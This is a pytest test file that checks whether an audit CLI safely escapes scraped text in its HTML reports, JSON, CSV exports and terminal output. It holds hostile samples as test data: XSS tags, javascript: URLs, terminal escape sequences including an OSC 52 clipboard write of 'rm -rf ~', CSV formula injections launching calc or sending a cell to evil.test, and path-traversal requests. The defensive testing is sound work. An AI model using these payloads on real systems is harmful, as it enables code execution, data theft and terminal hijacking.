"""Output safety: scraped strings reach the HTML report and report.json, verify.html/.json, the terminal (tables,
messages, log lines, --json output), the sweep CSV and the CSV export escaped for their medium
(:mod:`audit.textsafe`); paths derived from URLs stay inside their folder.

A copy of the demo store gets hostile sightings (alt text, caption, URLs, host), a hostile signal, crawl source,
page row (URL, host, lang, headers, facts) and EXIF/IPTC text, is re-audited by the real ``provaudit audit``, and
every command that prints or writes scraped data is run on it as a subprocess; the assertions read the raw bytes
it actually wrote: no raw control, C1, bidi or line-separator character (ESC sequences such as OSC 52, BEL, CR,
U+0085, U+009B, U+202A–U+202E, U+2066–U+2069, U+200E/F, U+061C, U+2028/9), and no CSV cell that starts a formula
whether the file is read with ``,``, ``;``, tab or ``|`` as the separator."""

from __future__ import annotations

import csv
import hashlib
import http.client
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from PIL import Image

from audit.store.db import Store
from audit.testbed.testweb import TestWebServer, build_web
from audit.textsafe import csv_cell, json_dumps, rich_text, terminal_text
from conftest import ROOT

COUNTRY = "FR"
ESC = "\x1b"
# what a hostile page can put in alt text, captions, URLs, hosts and metadata
SCRIPT = '<script>alert("xss")</script>'
ANSI = f"{ESC}[31mRED{ESC}[0m{ESC}[2J{ESC}]8;;http://evil.test/{ESC}\\osc-link{ESC}]8;;{ESC}\\"
OSC52 = f"{ESC}]52;c;cm0gLXJmIH4K\x07"  # sets the clipboard of a terminal that allows it to "rm -rf ~"
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"  # every bidi control
TERMINAL = (f"{ANSI} over\rwrite\x08\x07\x00 c1\x9b31m\x85nel \u202eevil-bidi\u202c \u2066iso\u2069 zw\u200b\ufeff "
            f"{OSC52} bidi{BIDI} ls\u2028ps\u2029")
# formula starts after each separator a spreadsheet may split a cell on (the CSV is written with ",")
FORMULAS = "x;=1+1 y,@SUM(A1) z\t+cmd|' /C calc'!A0 w|-2+3 v\n=HYPERLINK(\"http://evil.test\") u; ＝1 t;\"=1\""
MARKUP = "[bold red]MARKUP[/] [link=http://evil.test]click[/link] :warning: :flag_for_france:"
HOSTILE = f"{MARKUP} {SCRIPT} {TERMINAL} {FORMULAS}"  # markup first: the terminal clips long values
# every character no output may hold raw (tab and LF excepted: kept in HTML, CSV cells, and as line breaks)
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f"
                         "\ufeff\ufff9-\ufffb]")
FORMULA_CHARS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u207a\u207c\u208a\u208c\ufb29")
LIVE_SCHEMES = ("javascript:", "data:", "vbscript:", "file:")
HOSTILE_URLS = [  # (image_url, page_url): each a formula for a spreadsheet or a script for a browser
    ("javascript:alert('img')//x.jpg", "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"),
    (" JaVaScRiPt:alert(1)", "+cmd|' /C calc'!A0"),
    ("java\tscript:alert(2)", "-2+3+cmd|' /C calc'!A0"),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("vbscript:msgbox(1)", "\t=1+1"),
    (f"http://evil.test/{SCRIPT}.jpg", "\r=1+1"),
]


def provaudit(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    """The real CLI in a subprocess, its output as the raw text a terminal would receive."""
    return subprocess.run([sys.executable, "-m", "audit.cli", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=600, errors="surrogateescape", env={**os.environ, "COLUMNS": "3000"})


def assert_no_raw_control(text: str, where: str) -> None:
    bad = RAW_CONTROL.findall(text)
    assert not bad, f"raw control characters in {where}: {sorted(set(bad))!r}"


def assert_terminal_safe(text: str) -> None:
    """No raw control/format character, no interpreted rich markup, no emoji substitution."""
    assert_no_raw_control(text, "the terminal")
    assert "⚠" not in text  # ':warning:' was not turned into an emoji


def assert_json_file_safe(path: Path) -> object:
    """The raw bytes of a JSON output hold no raw control or bidi character; returns the parsed value."""
    text = path.read_bytes().decode("utf-8")
    assert_no_raw_control(text, path.name)
    return json.loads(text)


def strings(value: object) -> Iterator[str]:
    """Every string of a parsed JSON value, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v)


def formula_start(cell: str) -> bool:
    """Whether a spreadsheet could run ``cell`` as a formula (after the whitespace and quotes it may trim)."""
    return cell.lstrip(" \t\n\r\u00a0\u3000\"")[:1] in FORMULA_CHARS


def assert_csv_safe(path: Path) -> list[list[str]]:
    """A CSV output read as a spreadsheet in any locale would read it: parsed with ",", ";", tab and "|" as the
    separator (and split on them without quote rules), no cell starts a formula; its bytes hold no raw control
    character (the CRLF that ends each record aside). Returns the rows parsed with ","."""
    text = path.read_bytes().decode("utf-8")
    assert_no_raw_control(text.replace("\r\n", "\n"), path.name)
    for sep in (",", ";", "\t", "|"):
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))
        starts = [c for row in rows for c in row if formula_start(c)]
        assert not starts, f"{path.name} read with {sep!r}: cells start a formula: {starts[:5]!r}"
        naive = [p for line in text.splitlines() for p in line.split(sep) if formula_start(p)]
        assert not naive, f"{path.name} split on {sep!r}: fields start a formula: {naive[:5]!r}"
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def hostile(store_path, demo_out, tmp_path_factory):
    """A re-audited copy of the demo store where FR images carry hostile sightings, and the file of one of them."""
    root = tmp_path_factory.mktemp("hostile")
    db = root / "hostile.duckdb"
    shutil.copy(store_path, db)
    web = build_web(demo_out / "testweb", photos=60, seed=2022)  # cached: reads, writes nothing
    with Store.open(db) as s:
        picks = s.query("""
            SELECT a.sha256, any_value(x.crawl_id), min(x.image_url) FROM attributions a JOIN sightings x USING (sha256)
            WHERE a.country = 'FR' AND a.direct_country = 'FR' AND a.direct_tier = 'strong'
              AND a.sha256 IN (SELECT sha256 FROM ground_truth WHERE image_kind = 'photo')  -- evaluate reads photos
            GROUP BY a.sha256 ORDER BY a.sha256 LIMIT ?""", [len(HOSTILE_URLS)])
        assert len(picks) == len(HOSTILE_URLS)
        rows = []
        for i, ((sha, crawl_id, _), (image_url, page_url)) in enumerate(zip(picks, HOSTILE_URLS, strict=True)):
            rows.append({"sighting_id": f"hostile-{i}", "crawl_id": crawl_id, "sha256": sha, "image_url": image_url,
                         "page_url": page_url, "image_host": f"evil{i}.test", "page_host": f"{HOSTILE} host{i}",
                         "alt_text": f"alt {i} {HOSTILE}", "caption": f'"><img src=x onerror=alert({i})>{HOSTILE}',
                         "ref_kind": "img"})
        s.insert("sightings", rows)
    audit = provaudit("audit", "--db", str(db))
    assert audit.returncode == 0, audit.stderr
    assert_terminal_safe(audit.stdout + audit.stderr)
    with Store.open(db) as s:  # a signal whose every field is hostile, as a hand-edited or foreign store may hold
        s.insert("signals", [{"signal_id": "hostile-signal", "sha256": picks[0][0], "sighting_id": "hostile-0",
                              "kind": f"alt_language{HOSTILE}", "country": "FR", "strength": "strong", "weight": 1.0,
                              "evidence": f"=1+1 {HOSTILE}"}])
        # a crawl source, a page row and EXIF/IPTC text as a hostile archive or a foreign store would hold them
        s.con.execute("UPDATE crawls SET source = source || ?", [f" {HOSTILE}"])
        raw_json = json.dumps({"ImageDescription": f"desc {HOSTILE}", "Artist": FORMULAS, "GPSLongitudeRef": "W",
                               "list": [HOSTILE, 2]}, ensure_ascii=False)
        s.con.execute("UPDATE images SET exif = ?, iptc = ? WHERE sha256 = ?",
                      [raw_json, json.dumps({"2:120": HOSTILE, "2:80": FORMULAS}, ensure_ascii=False), picks[0][0]])
        s.insert("pages", [{"crawl_id": picks[0][1], "url": f"http://evil0.test/{TERMINAL}", "host": HOSTILE,
                            "status": 200, "lang": HOSTILE, "content_type": f"text/html{BIDI}",
                            "headers": json.dumps({"server": [HOSTILE]}, ensure_ascii=False),
                            "facts": json.dumps({"title": HOSTILE, "og:locale": FORMULAS}, ensure_ascii=False),
                            "error": f"-1+{HOSTILE}"}])
    host, _, path = picks[0][2].split("//", 1)[1].partition("/")
    photo = web.www / host / path
    assert hashlib.sha256(photo.read_bytes()).hexdigest() == picks[0][0]
    return db, photo, [p[0] for p in picks]


# --- HTML ---------------------------------------------------------------------------------------------------------

def assert_html_safe(html: str) -> None:
    assert "<script" not in html.lower()
    assert not re.search(r"<[^>]+\son[a-z]+\s*=", html, re.I), "an event handler attribute"
    for attr in re.findall(r'\s(?:href|src|action|formaction|xlink:href)\s*=\s*"([^"]*)"', html, re.I):
        value = re.sub(r"[\x00-\x20]", "", attr).lower()
        assert value.startswith(("http://", "https://", "#", "data:image/jpeg;base64,")), attr
    assert ESC not in html and "\x00" not in html


def test_report_escapes_every_scraped_string(hostile, tmp_path):
    db, _, _ = hostile
    out = tmp_path / "out"
    proc = provaudit("report", "--db", str(db), "--country", COUNTRY, "--out", str(out / "report.html"),
                     "--sample", "1000", "--thumbnails", "--claim", f"claim {SCRIPT}")
    assert proc.returncode == 0, proc.stderr
    assert_terminal_safe(proc.stdout + proc.stderr)
    html = (out / "report.html").read_text(encoding="utf-8")
    assert_html_safe(html)
    assert html.count("&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;") >= 2  # alt text shown as text
    assert "&lt;img src=x onerror=alert(0)&gt;" in html  # the caption too
    for image_url, _page_url in HOSTILE_URLS[:5]:
        assert f'href="{image_url.strip().lower()}' not in html.lower()
    assert "javascript:alert(&#x27;img&#x27;)//x.jpg" in html  # shown, not linked
    assert json.dumps(SCRIPT)[1:-1] in (out / "report.json").read_text(encoding="utf-8")  # JSON: the exact value
    # no file named after a URL: the report, its figures and the fixity manifest
    assert sorted(p.name for p in out.iterdir()) == ["provaudit-fixity.json", "report.html", "report.json"]


def test_report_html_and_json_hold_no_raw_control(hostile, tmp_path):
    """The raw bytes of report.html and report.json: no ESC, OSC 52, BEL, CR, C1 or bidi control, though alt
    text, captions, hosts, evidence and the crawl source hold them all; report.json keeps the exact values."""
    db, _, _ = hostile
    out = tmp_path / "out"
    proc = provaudit("report", "--db", str(db), "--country", COUNTRY, "--out", str(out / "report.html"),
                     "--sample", "1000")
    assert proc.returncode == 0, proc.stderr
    html = (out / "report.html").read_bytes().decode("utf-8")
    assert_no_raw_control(html, "report.html")  # CR included: an HTML parser would read it as LF anyway
    assert html.count("\ufffd]52;c;cm0gLXJmIH4K\ufffd") >= 3  # the OSC 52 shown inert (alt, caption, host...)
    values = set(strings(assert_json_file_safe(out / "report.json")))
    assert {f"alt 0 {HOSTILE}", f"{HOSTILE} host0"} <= values  # the exact values (\u escapes in the file)


def test_verify_html_and_json_hold_no_raw_control(hostile, tmp_path):
    db, _, _ = hostile
    proc = provaudit("verify", "--before", str(db), "--after", str(db), "--country", COUNTRY, "--policy",
                     "any-signal", "--out", str(tmp_path / "verify.html"))
    assert proc.returncode == 3, proc.stderr  # the store checked against itself: everything is still there
    html = (tmp_path / "verify.html").read_bytes().decode("utf-8")
    assert_no_raw_control(html, "verify.html")
    assert f"alt 0 {MARKUP} &lt;script&gt;" in html
    assert f"alt 0 {HOSTILE}" in set(strings(assert_json_file_safe(tmp_path / "verify.json")))  # the exact value


def test_verify_html_escapes_every_scraped_string(hostile, tmp_path):
    db, _, _ = hostile
    proc = provaudit("verify", "--before", str(db), "--after", str(db), "--country", COUNTRY, "--policy", "strong",
                     "--out", str(tmp_path / "verify.html"))
    assert proc.returncode == 3, proc.stderr  # the store checked against itself: everything is still there
    assert_terminal_safe(proc.stdout + proc.stderr)
    html = (tmp_path / "verify.html").read_text(encoding="utf-8")
    assert_html_safe(html)
    assert f"alt 0 {MARKUP} &lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;" in html
    assert "<code>javascript:alert(&#x27;img&#x27;)//x.jpg</code>" in html
    assert "<code>data:text/html;base64," in html and "<code>vbscript:msgbox(1)</code>" in html
    assert sorted(p.name for p in tmp_path.iterdir()) == ["provaudit-fixity.json", "verify.html", "verify.json"]


# --- CSV ----------------------------------------------------------------------------------------------------------

def test_sweep_csv_cannot_run_formulas(hostile, tmp_path):
    db, _, shas = hostile
    path = tmp_path / "sweep.csv"
    proc = provaudit("sweep", "--db", str(db), "--country", COUNTRY, "--policy", "any-signal", "--out", str(path))
    assert proc.returncode == 0, proc.stderr
    assert_terminal_safe(proc.stdout + proc.stderr)
    rows = assert_csv_safe(path)  # read with "," ";" tab "|": no formula start, no raw control character
    assert rows[0][0] == "sha256" and len(rows) > len(shas)
    by_sha = {row[0]: row for row in rows[1:]}
    for sha, (_image_url, page_url) in zip(shas, HOSTILE_URLS, strict=True):
        page_cell = by_sha[sha][8]
        assert page_cell.startswith("'"), page_cell  # every hostile page URL starts a formula
        assert page_cell == csv_cell(page_url) or page_cell.startswith(csv_cell(page_url) + "\n"), page_cell
    evidence = [row[9] for row in rows[1:] if "MARKUP" in row[9]]
    assert evidence and all("x;'=1+1 y,'@SUM(A1)" in e for e in evidence)  # guarded after ";" and ","


def test_csv_export_cannot_run_formulas_in_any_file(hostile, tmp_path):
    """Every file of a CSV export, read with any separator: no formula start, no raw control character; the JSON
    columns stay JSON with control and bidi characters as \\u escapes."""
    db, _, shas = hostile
    out = tmp_path / "export"
    proc = provaudit("export", "--db", str(db), "--format", "csv", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert_terminal_safe(proc.stdout + proc.stderr)
    manifest = assert_json_file_safe(out / "manifest.json")
    assert isinstance(manifest, dict)
    files = [out / f for entry in manifest["tables"].values() for f in entry["files"]]
    assert len(files) >= len(manifest["tables"]) - 1
    by_table: dict[str, list[dict[str, str]]] = {}
    for f in files:
        rows = assert_csv_safe(f)
        by_table.setdefault(f.parent.name, []).extend(dict(zip(rows[0], r, strict=True)) for r in rows[1:])
    (page,) = [r for r in by_table["pages"] if "MARKUP" in r["host"]]
    assert page["error"].startswith("'-1+") and json.loads(page["headers"])["server"][0].startswith("[bold red]")
    assert "\\u202e" in page["headers"] and "\\u0085" in page["facts"]  # JSON text: bidi and C1 as escapes
    (image,) = [r for r in by_table["images"] if r["sha256"] == shas[0]]
    exif = json.loads(image["exif"])  # still JSON (the guard's ' goes inside its strings)
    assert exif["ImageDescription"].startswith("desc [bold red]MARKUP")


# --- terminal -----------------------------------------------------------------------------------------------------

def test_lookup_prints_scraped_text_inert(hostile, tmp_path):
    db, photo, _ = hostile
    evil_name = tmp_path / f"me{ESC}[2J{ESC}]0;pwned\x07[bold]x\u202e.jpg"
    shutil.copy(photo, evil_name)
    for extra in ([], ["--json"]):
        proc = provaudit("-v", "lookup", str(evil_name), "--db", str(db), *extra)
        assert proc.returncode == 0, proc.stderr
        assert_terminal_safe(proc.stdout + proc.stderr)
        if extra:
            (result,) = json.loads(proc.stdout)
            match = result["matches"][0]
            alts = [s["alt_text"] for s in match["sightings"] if s["alt_text"] and "script" in s["alt_text"]]
            assert alts == [f"alt 0 {HOSTILE}"]  # the JSON still holds the exact value, escaped
            assert result["path"] == str(evil_name)
        else:
            assert "<script>alert" in proc.stdout  # shown as typed...
            assert "[bold red]MARKUP[/] [link=http://evil.test]click[/link]" in proc.stdout  # ...markup included
            assert ":warning:" in proc.stdout
            assert "INFO audit.outputs.lookup: lookup" in proc.stderr  # the -v log line, escaped too


def test_lookup_log_lines_cannot_be_forged_and_metadata_stays_inert(hostile, tmp_path):
    """A file name with line breaks cannot add a log record of its own (-v); a photo whose XMP carries hostile text
    (a near-duplicate of a store image) prints it inert in the table and only escaped in --json."""
    db, photo, _ = hostile
    forged = tmp_path / "me\nCRITICAL audit.outputs.lookup: forged record\r\n.jpg"
    shutil.copy(photo, forged)
    with_xmp = tmp_path / "with-xmp.jpg"
    with Image.open(photo) as img:
        _hostile_jpeg(with_xmp, img.convert("RGB"))
    for extra in ([], ["--json"]):
        proc = provaudit("-v", "lookup", str(forged), str(with_xmp), "--db", str(db), *extra)
        assert proc.returncode == 0, proc.stderr
        assert_terminal_safe(proc.stdout + proc.stderr)
        assert "forged record" in proc.stderr  # logged...
        assert not re.search(r"^CRITICAL", proc.stderr, re.M), proc.stderr  # ...but not as a record of its own
        if extra:
            results = json.loads(proc.stdout)
            assert [r["path"] for r in results] == [str(forged), str(with_xmp)]
            assert results[1]["photo"]["location"]["city"] == CITY and results[1]["matches"]
        else:
            assert "with-xmp.jpg" in proc.stdout and "near-duplicate" in proc.stdout


def _hostile_jpeg(path: Path, img: Image.Image | None = None) -> None:
    img = img if img is not None else Image.new("RGB", (64, 48), (120, 80, 40))
    exif = Image.Exif()
    exif[0x010E] = f"desc {HOSTILE}"  # ImageDescription
    exif[0x010F] = f"{ESC}[31mMake"  # Make
    exif[0x0110] = "[bold]Model[/bold] :warning:"  # Model
    exif[0x013B] = f"artist\u202eevil{ESC}]8;;http://x{ESC}\\"  # Artist
    city = "Paris \x9b2J\u202eevil\u202c [bold]City[/bold] :warning: &lt;script&gt;alert(1)&lt;/script&gt;"
    xmp = ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           '<rdf:Description xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" '
           'xmlns:Iptc4xmpCore="http://iptc.org/std/Iptc4xmpCore/1.0/xmlns/" photoshop:Country="France" '
           f'Iptc4xmpCore:CountryCode="FR" photoshop:City="{city}"/></rdf:RDF></x:xmpmeta>')
    img.save(path, "JPEG", exif=exif, xmp=xmp.encode("utf-8"))


CITY = "Paris \x9b2J\u202eevil\u202c [bold]City[/bold] :warning: <script>alert(1)</script>"


def test_inspect_prints_metadata_inert(tmp_path):
    path = tmp_path / f"photo{ESC}[31m\r.jpg"
    _hostile_jpeg(path)
    broken = tmp_path / f"broken{ESC}[2J.jpg"
    broken.write_bytes(b"\xff\xd8\xff\xe1 not really" + ESC.encode() + b"[31m")
    for extra in ([], ["--json"]):
        proc = provaudit("inspect", str(path), str(broken), *extra)
        assert proc.returncode == 0, proc.stderr
        assert_terminal_safe(proc.stdout + proc.stderr)
        if extra:
            objs = [json.loads(line) for line in proc.stdout.splitlines() if line.strip()]
            assert objs[0]["path"] == str(path) and objs[1]["error"]
            assert objs[0]["location"]["city"] == CITY  # the exact value, escaped in JSON
        else:
            # the location object is shown as JSON: its controls as \\u escapes, as in --json
            assert "Paris \\u009b2J\\u202eevil\\u202c [bold]City[/bold] :warning: <script>" in proc.stdout
            assert "photo\ufffd[31m\ufffd.jpg" in proc.stdout  # the table shows no metadata values, only the path


def test_ingest_and_error_messages_are_inert(tmp_path):
    folder = tmp_path / f"in{ESC}[2Jbox"
    folder.mkdir()
    _hostile_jpeg(folder / f"a{ESC}]0;title\x07.jpg")
    (folder / f"b{ESC}[31m.txt").write_text(f"not an image {ESC}[31m", encoding="utf-8")
    proc = provaudit("ingest", str(folder), "--db", str(tmp_path / "in.duckdb"))
    assert proc.returncode == 0, proc.stderr
    assert_terminal_safe(proc.stdout + proc.stderr)
    # an error message quoting a hostile path (click prints ClickException messages as they are)
    missing = tmp_path / f"no{ESC}[2Jstore\u202e.duckdb"
    unaudited = tmp_path / f"unaudited{ESC}]52;c;cm0gLXJmIH4K\x07\u202e.duckdb"  # a store with no attributions yet
    shutil.copy(tmp_path / "in.duckdb", unaudited)
    for args in (["sweep", "--db", str(missing), "--country", "FR"],
                 ["lookup", str(folder), "--db", str(missing)],
                 ["ingest", str(tmp_path / f"missing{ESC}[31m"), "--db", str(tmp_path / "x.duckdb")],
                 ["audit", "--db", str(missing)],
                 ["sweep", "--db", str(unaudited), "--country", "FR"],
                 ["report", "--db", str(unaudited), "--country", "FR", "--out", str(tmp_path / "r.html")]):
        proc = provaudit(*args)
        assert proc.returncode != 0 and "Traceback" not in proc.stderr, proc.stderr
        assert_terminal_safe(proc.stdout + proc.stderr)


def test_sweep_verify_evaluate_print_inert(hostile, tmp_path):
    db, _, _ = hostile
    for args in (["sweep", "--db", str(db), "--country", COUNTRY, "--policy", "any-signal"],
                 ["sweep", "--db", str(db), "--country", COUNTRY, "--json"],
                 ["verify", "--before", str(db), "--after", str(db), "--country", COUNTRY, "--json",
                  "--out", str(tmp_path / "v.html")],
                 ["evaluate", "--db", str(db)], ["evaluate", "--db", str(db), "--json"]):
        proc = provaudit(*args)
        # verify checks the store against itself: what should be gone is all still there (exit status 3)
        assert proc.returncode == (3 if args[0] == "verify" else 0), (args, proc.stderr)
        assert_terminal_safe(proc.stdout + proc.stderr)
        if "--json" in args:
            json.loads(proc.stdout)
    proc = provaudit("evaluate", "--db", str(db))
    assert "kind alt_language[bold red]MARKUP[/]" in proc.stdout  # the hostile kind, shown as typed


@pytest.mark.parametrize("text", [HOSTILE, "x" + "\x85\u2028\u2029\u061c\u2060\u2061\U000e0001\U000f0000" + "y",
                                  "ends with a backslash \\", "\\[bold]x[/bold]", "[/]"])
def test_terminal_helpers(text):
    from rich.console import Console

    def controls(s: str) -> list[str]:
        return [ch for ch in s if unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp", "Cn")]

    shown = rich_text(text)
    assert not controls(shown)
    console = Console(record=True, width=10_000, emoji=False, highlight=False, color_system=None)
    console.print(shown)
    rendered = console.export_text().rstrip("\n")
    # markup printed as typed, nothing interpreted (rich's escape doubles a final backslash, harmlessly)
    assert rendered in (terminal_text(text), terminal_text(text) + "\\"), rendered
    encoded = json_dumps({"v": text}, indent=2)
    assert not controls(encoded.replace("\n", ""))
    assert json.loads(encoded) == {"v": text}


# --- paths --------------------------------------------------------------------------------------------------------

def _raw_get(port: int, target: str, host: str) -> tuple[int, bytes]:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(f"GET {target} HTTP/1.0\r\nHost: {host}\r\n\r\n".encode("latin-1"))
        response = http.client.HTTPResponse(sock)
        response.begin()
        return response.status, response.read()


def test_testweb_server_paths_stay_inside_the_web(demo_out, tmp_path):
    web = build_web(demo_out / "testweb", photos=60, seed=2022)
    host = sorted(web.hosts)[0]
    with TestWebServer(web) as server:
        port = urlsplit(server.proxy_url).port
        assert port is not None
        status, _ = _raw_get(port, "/", host)
        assert status in (200, 301, 404)
        leaks = []
        for target in ("/../../manifest.json", "/%2e%2e/%2e%2e/manifest.json", "/_site/" + host + "/../../x",
                       "../../manifest.json", "..%2f..%2fmanifest.json", "%2e%2e/%2e%2e/manifest.json"):
            status, body = _raw_get(port, target, host)
            if status == 200 and b'"hosts"' in body:
                leaks.append(target)
        assert not leaks, f"files outside www/{host} served for {leaks}"
